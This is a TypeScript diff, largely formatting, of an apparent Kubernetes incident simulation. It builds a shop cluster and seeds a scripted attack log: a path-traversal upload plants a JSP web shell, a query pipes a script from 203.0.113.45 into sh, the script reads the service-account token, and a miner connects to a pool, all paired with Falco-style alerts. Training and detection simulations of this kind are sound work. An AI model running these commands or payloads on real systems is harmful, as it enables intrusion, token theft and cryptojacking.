@@ -41,7 +41,10 @@ const fluentbit: WorkloadSpec = {
     },
   ],
   volumes: [{ name: "varlog", hostPath: { path: "/var/log", type: "" } }],
-  tolerations: [{ operator: "Exists", effect: "NoExecute" }, { operator: "Exists", effect: "NoSchedule" }],
+  tolerations: [
+    { operator: "Exists", effect: "NoExecute" },
+    { operator: "Exists", effect: "NoSchedule" },
+  ],
   serviceAccountName: "fluentbit-gke",
   priorityClassName: "system-node-critical",
 };
@@ -57,7 +60,13 @@ function web(app: string, image: string, extra: Partial<WorkloadSpec> = {}): Wor
         image,
         ports: [{ name: "http", containerPort: 8080, protocol: "TCP" }],
         resources: { requests: { cpu: "100m", memory: "128Mi" }, limits: { memory: "256Mi" } },
-        livenessProbe: { httpGet: { path: "/healthz", port: 8080, scheme: "HTTP" }, periodSeconds: 10, timeoutSeconds: 1, successThreshold: 1, failureThreshold: 3 },
+        livenessProbe: {
+          httpGet: { path: "/healthz", port: 8080, scheme: "HTTP" },
+          periodSeconds: 10,
+          timeoutSeconds: 1,
+          successThreshold: 1,
+          failureThreshold: 3,
+        },
       },
     ],
   };
@@ -78,7 +87,10 @@ function buildShop(world: World, cluster: SimCluster, sizes: { frontend: number;
   createDeployment(cluster, "shop", "frontend", web("frontend", `${REGISTRY}/frontend:2.14.1`, { replicas: sizes.frontend, labels: { tier: "web" } }));
   reconcileNow(world, cluster);
   addCheckoutIdentity(cluster);
-  createDeployment(cluster, "shop", "checkout", { ...web("checkout", `${REGISTRY}/checkout:1.9.3`, { replicas: sizes.checkout, labels: { tier: "backend" } }), serviceAccountName: "checkout" });
+  createDeployment(cluster, "shop", "checkout", {
+    ...web("checkout", `${REGISTRY}/checkout:1.9.3`, { replicas: sizes.checkout, labels: { tier: "backend" } }),
+    serviceAccountName: "checkout",
+  });
   reconcileNow(world, cluster);
   createDeployment(cluster, "shop", "cart", { ...web("cart", `${REGISTRY}/cart:3.2.0`, { replicas: sizes.cart }), serviceAccountName: "cart" });
   reconcileNow(world, cluster);
@@ -100,10 +112,27 @@ function buildShop(world: World, cluster: SimCluster, sizes: { frontend: number;
   }
   createPdb(cluster, "shop", "checkout-pdb", { app: "checkout" }, { minAvailable: 1 });
   createPdb(cluster, "shop", "frontend-pdb", { app: "frontend" }, { maxUnavailable: 1 });
-  addService(world, cluster, serviceObject("shop", "frontend", { type: "LoadBalancer", selector: { app: "frontend" }, ports: [{ name: "http", port: 80, targetPort: "http" }] }));
-  addService(world, cluster, serviceObject("shop", "checkout", { type: "ClusterIP", selector: { app: "checkout" }, ports: [{ name: "http", port: 8080, targetPort: "http" }] }));
-  addService(world, cluster, serviceObject("shop", "cart", { type: "NodePort", selector: { app: "cart" }, ports: [{ name: "http", port: 80, targetPort: 8080 }] }));
-  if (sizes.cache) addService(world, cluster, serviceObject("shop", "cache", { type: "ClusterIP", selector: { app: "cache" }, ports: [{ name: "redis", port: 6379, targetPort: "redis" }] }));
+  addService(
+    world,
+    cluster,
+    serviceObject("shop", "frontend", { type: "LoadBalancer", selector: { app: "frontend" }, ports: [{ name: "http", port: 80, targetPort: "http" }] }),
+  );
+  addService(
+    world,
+    cluster,
+    serviceObject("shop", "checkout", { type: "ClusterIP", selector: { app: "checkout" }, ports: [{ name: "http", port: 8080, targetPort: "http" }] }),
+  );
+  addService(
+    world,
+    cluster,
+    serviceObject("shop", "cart", { type: "NodePort", selector: { app: "cart" }, ports: [{ name: "http", port: 80, targetPort: 8080 }] }),
+  );
+  if (sizes.cache)
+    addService(
+      world,
+      cluster,
+      serviceObject("shop", "cache", { type: "ClusterIP", selector: { app: "cache" }, ports: [{ name: "redis", port: 6379, targetPort: "redis" }] }),
+    );
   addService(world, cluster, serviceObject("shop", "payments-gateway", { type: "ExternalName", externalName: "api.stripe.example.com" }));
   // Selects checkout by tier, a label in neither the ReplicaSet's nor any Service's selector:
   // stripping controller labels does not take the pod out of this allow (ERRATA 3).
@@ -112,7 +141,9 @@ function buildShop(world: World, cluster: SimCluster, sizes: { frontend: number;
     policyTypes: ["Ingress"],
     ingress: [{ from: [{ podSelector: { matchLabels: { app: "frontend" } } }], ports: [{ protocol: "TCP", port: 8080 }] }],
   });
-  for (const sa of ["default"]) if (!store.get("serviceaccounts", "shop", sa)) store.create("serviceaccounts", { apiVersion: "v1", kind: "ServiceAccount", metadata: { name: sa, namespace: "shop" } });
+  for (const sa of ["default"])
+    if (!store.get("serviceaccounts", "shop", sa))
+      store.create("serviceaccounts", { apiVersion: "v1", kind: "ServiceAccount", metadata: { name: sa, namespace: "shop" } });
   reconcileNow(world, cluster);
 }
 
@@ -138,7 +169,14 @@ function addCheckoutIdentity(cluster: SimCluster): void {
     apiVersion: "v1",
     kind: "Secret",
     type: "kubernetes.io/service-account-token",
-    metadata: { name: "checkout-token", namespace: "shop", annotations: { "kubernetes.io/service-account.name": "checkout", "kubernetes.io/service-account.uid": store.get("serviceaccounts", "shop", "checkout")!.metadata.uid! } },
+    metadata: {
+      name: "checkout-token",
+      namespace: "shop",
+      annotations: {
+        "kubernetes.io/service-account.name": "checkout",
+        "kubernetes.io/service-account.uid": store.get("serviceaccounts", "shop", "checkout")!.metadata.uid!,
+      },
+    },
     data: {
       "ca.crt": Buffer.from("-----BEGIN CERTIFICATE-----\nsimulated\n-----END CERTIFICATE-----\n").toString("base64"),
       namespace: Buffer.from("shop").toString("base64"),
@@ -170,7 +208,14 @@ function buildPayments(world: World): { cluster: SimCluster; compromised: KObjec
   addGkeCluster(
     world,
     cluster,
-    { datapathProvider: "ADVANCED_DATAPATH", calicoEnabled: false, autopilot: false, autoRepair: true, autoscaling: { minNodeCount: 1, maxNodeCount: 5 }, workloadMetadata: "GCE_METADATA" },
+    {
+      datapathProvider: "ADVANCED_DATAPATH",
+      calicoEnabled: false,
+      autopilot: false,
+      autoRepair: true,
+      autoscaling: { minNodeCount: 1, maxNodeCount: 5 },
+      workloadMetadata: "GCE_METADATA",
+    },
     ["us-central1-a"],
   );
   seedClusterBasics(cluster, ["shop"]);
@@ -185,7 +230,8 @@ function buildPayments(world: World): { cluster: SimCluster; compromised: KObjec
   const victim = checkout.find((p) => p.spec.nodeName === node);
   const other = checkout.find((p) => p.spec.nodeName !== node);
   const frontendHere = podsOf(cluster, "shop", "frontend").some((p) => p.spec.nodeName === node);
-  if (!victim || !other || !frontendHere) throw new Error(`demo layout broken: node ${node} must host checkout, cache and frontend pods with the second checkout elsewhere`);
+  if (!victim || !other || !frontendHere)
+    throw new Error(`demo layout broken: node ${node} must host checkout, cache and frontend pods with the second checkout elsewhere`);
 
   createBarePod(cluster, "shop", "debug-shell", {
     labels: { run: "debug-shell" },
@@ -203,7 +249,12 @@ function buildPayments(world: World): { cluster: SimCluster; compromised: KObjec
 function buildStorefront(world: World): SimCluster {
   const cluster = world.addCluster("storefront", "us-central1");
   const zones = ["us-central1-a", "us-central1-b", "us-central1-c"];
-  addGkeCluster(world, cluster, { datapathProvider: "LEGACY_DATAPATH", calicoEnabled: false, autopilot: false, autoRepair: true, workloadMetadata: "GKE_METADATA" }, zones);
+  addGkeCluster(
+    world,
+    cluster,
+    { datapathProvider: "LEGACY_DATAPATH", calicoEnabled: false, autopilot: false, autoRepair: true, workloadMetadata: "GKE_METADATA" },
+    zones,
+  );
   seedClusterBasics(cluster, ["shop"]);
   seedApiServerEndpoints(world, cluster);
   zones.forEach((zone, i) => addNode(world, cluster, { zone, index: i }));
@@ -225,19 +276,29 @@ function addKubeDns(world: World, cluster: SimCluster): void {
       {
         name: "kubedns",
         image: "gke.gcr.io/k8s-dns-kube-dns:1.23.0-gke.9",
-        ports: [{ name: "dns-local", containerPort: 10053, protocol: "UDP" }, { name: "dns-tcp-local", containerPort: 10053, protocol: "TCP" }, { name: "metrics", containerPort: 10055, protocol: "TCP" }],
+        ports: [
+          { name: "dns-local", containerPort: 10053, protocol: "UDP" },
+          { name: "dns-tcp-local", containerPort: 10053, protocol: "TCP" },
+          { name: "metrics", containerPort: 10055, protocol: "TCP" },
+        ],
         resources: { requests: { cpu: "100m", memory: "70Mi" }, limits: { memory: "210Mi" } },
       },
       {
         name: "dnsmasq",
         image: "gke.gcr.io/k8s-dns-dnsmasq-nanny:1.23.0-gke.9",
-        ports: [{ name: "dns", containerPort: 53, protocol: "UDP" }, { name: "dns-tcp", containerPort: 53, protocol: "TCP" }],
+        ports: [
+          { name: "dns", containerPort: 53, protocol: "UDP" },
+          { name: "dns-tcp", containerPort: 53, protocol: "TCP" },
+        ],
         resources: { requests: { cpu: "150m", memory: "20Mi" } },
       },
     ],
     serviceAccountName: "kube-dns",
     priorityClassName: "system-cluster-critical",
-    tolerations: [{ key: "CriticalAddonsOnly", operator: "Exists" }, { key: "components.gke.io/gke-managed-components", operator: "Exists" }],
+    tolerations: [
+      { key: "CriticalAddonsOnly", operator: "Exists" },
+      { key: "components.gke.io/gke-managed-components", operator: "Exists" },
+    ],
   });
   addService(
     world,
@@ -246,7 +307,10 @@ function addKubeDns(world: World, cluster: SimCluster): void {
       const svc = serviceObject("kube-system", "kube-dns", {
         selector: { "k8s-app": "kube-dns" },
         labels: { "k8s-app": "kube-dns", "kubernetes.io/cluster-service": "true", "kubernetes.io/name": "KubeDNS" },
-        ports: [{ name: "dns", port: 53, protocol: "UDP", targetPort: 53 }, { name: "dns-tcp", port: 53, protocol: "TCP", targetPort: 53 }],
+        ports: [
+          { name: "dns", port: 53, protocol: "UDP", targetPort: 53 },
+          { name: "dns-tcp", port: 53, protocol: "TCP", targetPort: 53 },
+        ],
       });
       svc.spec.clusterIP = "10.8.0.10";
       svc.spec.clusterIPs = ["10.8.0.10"];
@@ -269,15 +333,24 @@ function tellStory(world: World, cluster: SimCluster, pod: KObject): number {
   const at = (s: number) => rfc3339Nano(t0 + s * 1000, s);
   const story: LogEntry[] = [
     [0, `{"level":"info","msg":"request","method":"POST","path":"/api/v1/orders","status":201,"ms":41}`],
-    [12, `{"level":"warn","msg":"request","method":"POST","path":"/api/v1/checkout/attachments","status":200,"ms":9,"remote":"203.0.113.45","ua":"python-requests/2.31.0","filename":"../../app/static/health.jsp"}`],
+    [
+      12,
+      `{"level":"warn","msg":"request","method":"POST","path":"/api/v1/checkout/attachments","status":200,"ms":9,"remote":"203.0.113.45","ua":"python-requests/2.31.0","filename":"../../app/static/health.jsp"}`,
+    ],
     [31, `{"level":"warn","msg":"request","method":"GET","path":"/static/health.jsp","query":"c=id","status":200,"ms":3,"remote":"203.0.113.45"}`],
     [32, "uid=10001(app) gid=10001(app) groups=10001(app)"],
-    [58, `{"level":"warn","msg":"request","method":"GET","path":"/static/health.jsp","query":"c=curl%20-s%20http://203.0.113.45/x.sh%20|%20sh","status":200,"ms":2113,"remote":"203.0.113.45"}`],
+    [
+      58,
+      `{"level":"warn","msg":"request","method":"GET","path":"/static/health.jsp","query":"c=curl%20-s%20http://203.0.113.45/x.sh%20|%20sh","status":200,"ms":2113,"remote":"203.0.113.45"}`,
+    ],
     [59, "+ curl -s http://203.0.113.45/x.sh"],
     [60, "+ sh"],
     [61, "[x.sh] arch=x86_64 dropping /tmp/.X11-unix/kworkerd"],
     [63, "[x.sh] cat /var/run/secrets/kubernetes.io/serviceaccount/token > /tmp/.t"],
-    [64, `[x.sh] GET https://10.8.0.1:443/api/v1/namespaces/shop/secrets -> 403 Forbidden: secrets is forbidden: User "system:serviceaccount:shop:default" cannot list resource "secrets" in API group "" in the namespace "shop"`],
+    [
+      64,
+      `[x.sh] GET https://10.8.0.1:443/api/v1/namespaces/shop/secrets -> 403 Forbidden: secrets is forbidden: User "system:serviceaccount:shop:default" cannot list resource "secrets" in API group "" in the namespace "shop"`,
+    ],
     [66, "[x.sh] GET https://10.8.0.1:443/apis/authorization.k8s.io/v1/selfsubjectrulesreviews -> 201"],
     [70, "[kworkerd] * ABOUT        XMRig/6.21.0 gcc/12.2.0"],
     [71, "[kworkerd] * POOL #1      198.51.100.23:3333 algo rx/0"],
@@ -302,11 +375,35 @@ function tellStory(world: World, cluster: SimCluster, pod: KObject): number {
     world.clock.advance(s);
   };
   step(31);
-  recordEvent(world, cluster, ref, "Warning", "SuspiciousExec", `Notice A shell was spawned in a container with an attached terminal or by a web server (user=app container=${c} shell=sh parent=java cmdline=sh -c id pod=${name} ns=${ns} image=${REGISTRY}/checkout:1.9.3)`, falco);
+  recordEvent(
+    world,
+    cluster,
+    ref,
+    "Warning",
+    "SuspiciousExec",
+    `Notice A shell was spawned in a container with an attached terminal or by a web server (user=app container=${c} shell=sh parent=java cmdline=sh -c id pod=${name} ns=${ns} image=${REGISTRY}/checkout:1.9.3)`,
+    falco,
+  );
   step(28);
-  recordEvent(world, cluster, ref, "Warning", "SuspiciousExec", `Critical Download piped to shell (user=app container=${c} cmdline=sh -c curl -s http://203.0.113.45/x.sh | sh pod=${name} ns=${ns})`, falco);
+  recordEvent(
+    world,
+    cluster,
+    ref,
+    "Warning",
+    "SuspiciousExec",
+    `Critical Download piped to shell (user=app container=${c} cmdline=sh -c curl -s http://203.0.113.45/x.sh | sh pod=${name} ns=${ns})`,
+    falco,
+  );
   step(4);
-  recordEvent(world, cluster, ref, "Warning", "SensitiveFileRead", `Warning Service account token read by unexpected process (file=/var/run/secrets/kubernetes.io/serviceaccount/token proc=cat parent=sh pod=${name} ns=${ns})`, falco);
+  recordEvent(
+    world,
+    cluster,
+    ref,
+    "Warning",
+    "SensitiveFileRead",
+    `Warning Service account token read by unexpected process (file=/var/run/secrets/kubernetes.io/serviceaccount/token proc=cat parent=sh pod=${name} ns=${ns})`,
+    falco,
+  );
   step(11);
   // The miner's pool connection (story second 74) is still open now; what cuts it is the
   // datapath's business (sim/kube/netpol/flows.ts).
@@ -325,10 +422,26 @@ function tellStory(world: World, cluster: SimCluster, pod: KObject): number {
     remotePort: MINER_POOL.port,
     establishedAt: t0 + 74_000,
   });
-  recordEvent(world, cluster, ref, "Warning", "OutboundConnection", `Critical Outbound connection to known cryptocurrency mining pool (connection=${ip}:43512->198.51.100.23:3333 proc=kworkerd pod=${name} ns=${ns})`, falco);
+  recordEvent(
+    world,
+    cluster,
+    ref,
+    "Warning",
+    "OutboundConnection",
+    `Critical Outbound connection to known cryptocurrency mining pool (connection=${ip}:43512->198.51.100.23:3333 proc=kworkerd pod=${name} ns=${ns})`,
+    falco,
+  );
   step(67);
   for (let i = 0; i < 3; i++) {
-    recordEvent(world, cluster, ref, "Warning", "Unhealthy", `Liveness probe failed: Get "http://${ip}:8080/healthz": context deadline exceeded (Client.Timeout exceeded while awaiting headers)`, { component: "kubelet", host: node });
+    recordEvent(
+      world,
+      cluster,
+      ref,
+      "Warning",
+      "Unhealthy",
+      `Liveness probe failed: Get "http://${ip}:8080/healthz": context deadline exceeded (Client.Timeout exceeded while awaiting headers)`,
+      { component: "kubelet", host: node },
+    );
     step(10);
   }
   return stepped;
